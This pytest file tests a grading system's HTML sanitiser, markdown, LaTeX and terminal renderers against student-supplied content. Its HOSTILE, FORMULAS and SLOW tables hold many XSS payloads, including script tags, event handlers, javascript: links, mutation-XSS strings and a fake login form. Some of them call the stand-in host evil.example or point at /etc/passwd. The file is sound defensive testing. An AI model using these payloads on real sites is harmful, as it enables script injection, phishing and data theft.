"""What a student may leave in a notebook, and what of it may reach a page."""

import re
import time

import pytest
from bs4 import BeautifulSoup

from grader.feedback.cells import LONGEST_CELL
from grader.feedback.markdown import to_html
from grader.feedback.mathematics import LONGEST, to_mathml
from grader.feedback.sanitise import clean
from grader.feedback.text import Allowance, code_html, terminal_html

FORBIDDEN_TAGS = (
    "script style link meta base iframe frame object embed applet form input button select "
    "textarea svg video audio source track template noscript title html body head dialog portal "
    "image use foreignobject annotation-xml semantics maction mglyph malignmark h1 h2"
)
PICTURE = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]+=*")
WEB = re.compile(r"(https?://|mailto:)")


def parsed(html):
    """Return HTML as a browser would read it within a page."""
    return BeautifulSoup(f"<!DOCTYPE html><body><main>{html}</main></body>", "html5lib").main


def faults(main):
    """Return everything in a piece of a page that a student must not be able to put there."""
    found = []
    for tag in main.find_all(True):
        if tag.name.lower() in FORBIDDEN_TAGS.split():
            found.append(f"<{tag.name}>")
        for name, value in tag.attrs.items():
            if (
                name.startswith("on")
                or name in ("style", "id", "name", "srcset", "background", "action", "xlink:href")
                or (name == "src" and not PICTURE.fullmatch(value))
                or (name == "href" and not (tag.name == "a" and WEB.match(value)))
                or (name not in ("src", "href", "alt", "title") and ":" in value)
            ):
                found.append(f"{tag.name} {name}={value!r}")
    return found


PNG = "data:image/png;base64,iVBORw0KGgo="

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "broken script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "event handler": f'<img src="{PNG}" onerror="alert(1)" onload=alert(1)>',
    "event handler without space": "<img/src=x/onerror=alert(1)>",
    "details that opens": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link in disguise": '<a href=" java&#09;script&colon;alert(1)">x</a>',
    "page as a link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "page as a link in base64": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "file link": '<a href="file:///etc/passwd">x</a>',
    "protocol-relative link": '<a href="//evil.example">x</a>',
    "remote image": "<img src=https://evil.example/x.png srcset='https://evil.example/y.png 2x'>",
    "svg image": '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "html as an image": '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "old background": '<table background="https://evil.example/x.png"><tr><td>x</table>',
    "style sheet": "<style>@import url(//evil.example/x.css); body { display: none }</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:url(//evil.example/x)">x</p>',
    "link": '<link rel="stylesheet" href="//evil.example/x.css">',
    "preload": '<link rel="preload" as="image" href="//evil.example/x.png">',
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example"><input name=p><button>Log in</button></form>',
    "form attribute": '<button formaction="javascript:alert(1)">x</button>',
    "object": '<object data="https://evil.example/x.swf"></object><embed src="//evil.example">',
    "media": '<video src="//evil.example/x" poster="//evil.example/y"></video>',
    "svg": "<svg onload=alert(1)><script>alert(1)</script><use href='//evil.example#x'/></svg>",
    "svg with a page": "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "mathml link": '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi>',
    "mathml action": '<math><maction actiontype="statusline#javascript:x">x</maction></math>',
    "mathml with html": "<math><annotation-xml encoding=text/html><script>x</script></math>",
    "parsed twice": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "comment": "<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>x</script><![endif]-->",
    "end of the page": "</code></pre></div></section></main></body></html><script>x</script>",
    "names of ours": '<p id="results" class="verdict score flags">10 of 10</p>',
    "headings of ours": "<h1>10 of 10 points</h1><h2>Results</h2>",
    "template": "<template><script>alert(1)</script></template><noscript><p title='</noscript>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "xml": '<?xml-stylesheet href="//evil.example"?><![CDATA[<script>alert(1)</script>]]>',
    "custom": "<x-widget onclick=alert(1)>x</x-widget><slot name=y></slot>",
    "label": "<dialog open>Give me your password</dialog><marquee>x</marquee>",
}


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("gate", [clean, to_html, terminal_html, code_html])
def test_nothing_hostile_passes(gate, name):
    main = parsed(gate(HOSTILE[name]))
    assert faults(main) == []
    # What is in it is all that there is: it closes no element of the page around it.
    assert main.parent.name == "body"
    assert [child.name for child in main.parent.find_all(recursive=False)] == ["main"]


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_hostile_passes_inside_other_markdown(name):
    source = f"- a list\n\n  > {HOSTILE[name]}\n\n| a | b |\n|---|---|\n| {HOSTILE[name]} | $x$ |\n"
    assert faults(parsed(to_html(source))) == []


LINKS = {
    "[x](javascript:alert(1))": None,
    "[x](data:text/html,y)": None,
    "[x](other.html)": None,
    "[x](https://example.org/a?b=c)": "https://example.org/a?b=c",
    "<https://example.org>": "https://example.org",
    "[x]: javascript:alert(1)\n\n[x]": None,
}


@pytest.mark.parametrize("source", LINKS)
def test_only_links_to_the_web_are_kept(source):
    links = parsed(to_html(source)).find_all("a", href=True)
    assert [link["href"] for link in links] == [LINKS[source]] * bool(LINKS[source])
    assert all("noopener" in link["rel"] for link in links)


def test_markdown_keeps_what_a_lecture_is_made_of():
    main = parsed(
        to_html(
            "# Title\n\nText with **bold**, `code` and $x^2$.\n\n"
            "<details><summary>Hint</summary>\n\nInside *it*.\n</details>\n\n"
            "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = 1\n```\n"
        )
    )
    for name in ("h3", "strong", "code", "math", "details", "summary", "em", "table", "td", "pre"):
        assert main.find(name), name
    assert main.h3.text == "Title"
    assert main.math.text == "x2"


def test_an_attached_picture_is_shown_and_a_missing_one_is_not():
    kept = {"a.png": {"image/png": "iVBORw0KGgo="}}
    shown, missing = parsed(
        to_html("![one](attachment:a.png) ![two](attachment:b)", kept)
    ).find_all("img")
    assert (shown["src"], shown["alt"]) == (PNG, "one")
    assert "src" not in missing.attrs
    assert missing["alt"] == "two"


def test_a_picture_without_description_says_so():
    assert parsed(clean(f'<img src="{PNG}">')).img["alt"]
    assert parsed(clean(f'<img src="{PNG}" alt="">')).img["alt"] == ""


FORMULAS = {
    r"\href{javascript:alert(1)}{x}": "code",
    r"\url{https://evil.example}": "code",
    r"\htmlStyle{position:fixed}{x}": "code",
    r"\includegraphics{https://evil.example/x.png}": "code",
    r"\text{<script>alert(1)</script>}": "math",
    r"</math><script>alert(1)</script>": "math",
    r"\def\a{\a\a}\a": "code",
    r"\newcommand{\a}{x}\a": "code",
    r"\frac{": "code",
    r"\begin{aligned} a &= b \\ c &= d \end{aligned}": "math",
    r"\begin{cases} 1 & x > 0 \\ 0 & x \le 0 \end{cases}": "math",
    r"\tilde{Z}^{[l]} = \frac{Z - \mu}{\sqrt{\sigma^2 + \varepsilon}}": "math",
    r"\hspace{99999em}x": "math",
    "{" * 900 + "x" + "}" * 900: "code",
    r"\sqrt" * 400 + "x": "code",
    "x" * (LONGEST + 1): "code",
}


@pytest.mark.parametrize("latex", FORMULAS, ids=lambda latex: latex[:30])
@pytest.mark.parametrize("dollars", ["$", "$$"])
def test_a_formula_is_set_or_shown_as_it_was_written(latex, dollars):
    main = parsed(to_html(f"{dollars}{latex}{dollars}"))
    assert faults(main) == []
    assert main.find(FORMULAS[latex])
    assert not any("99999" in value for tag in main.find_all(True) for value in tag.attrs.values())


def test_equations_stay_aligned_without_style_attributes():
    cells = parsed(clean(to_mathml(r"\begin{aligned} a &= b \end{aligned}", block=True))).find_all(
        "mtd"
    )
    assert [cell["class"] for cell in cells] == [["math-right"], ["math-left"]]


TERMINAL = {
    "\x1b[31mred\x1b[0m plain": '<span class="ansi-red-fg">red</span> plain',
    "\x1b[38;2;1;2;3mexact\x1b[0m": "<span>exact</span>",
    "10%\r50%\r100%\n": "100%\n",
    "10%\r": "10%",
    "a\r\nb": "a\nb",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07": "]8;;https://evil.examplelink]8;;",
    "bell\x07 null\x00 back\x08": "bell null back",
    "cut off \x1b[3": "cut off ",
    "<b>&amp;": "&lt;b&gt;&amp;amp;",
}


@pytest.mark.parametrize("text", TERMINAL)
def test_what_a_terminal_would_show(text):
    assert terminal_html(text) == TERMINAL[text]


def test_an_allowance_is_used_up():
    allowance = Allowance(10)
    assert allowance.take("abcd", 3) == ("abc", "Cut here: 1 of 4 characters.")
    assert allowance.take("abcdefg", 9) == ("abcdefg", "")
    assert allowance.take("abc", 9) == ("", "Cut here: 3 of 3 characters.")


SLOW = {
    "formulas": r"\\[" * LONGEST_CELL,
    "environments": r"\begin{a}" * LONGEST_CELL,
    "dollars": "$" * LONGEST_CELL,
    "brackets": "[" * LONGEST_CELL,
    "quotes": "> " * LONGEST_CELL,
    "stars": "*a " * LONGEST_CELL,
    "elements": "<div>" * LONGEST_CELL,
    "comments": "<!--" * LONGEST_CELL,
    "blank lines": " \n" * LONGEST_CELL,
    "strings": 'f"{' * LONGEST_CELL,
    "colours": "\x1b[31ma" * LONGEST_CELL,
}


@pytest.mark.parametrize("name", SLOW)
def test_no_text_takes_long_to_show(name):
    text = SLOW[name][:LONGEST_CELL]
    began = time.process_time()
    for gate in (clean, to_html, terminal_html, code_html):
        gate(text)
    assert time.process_time() - began < 5
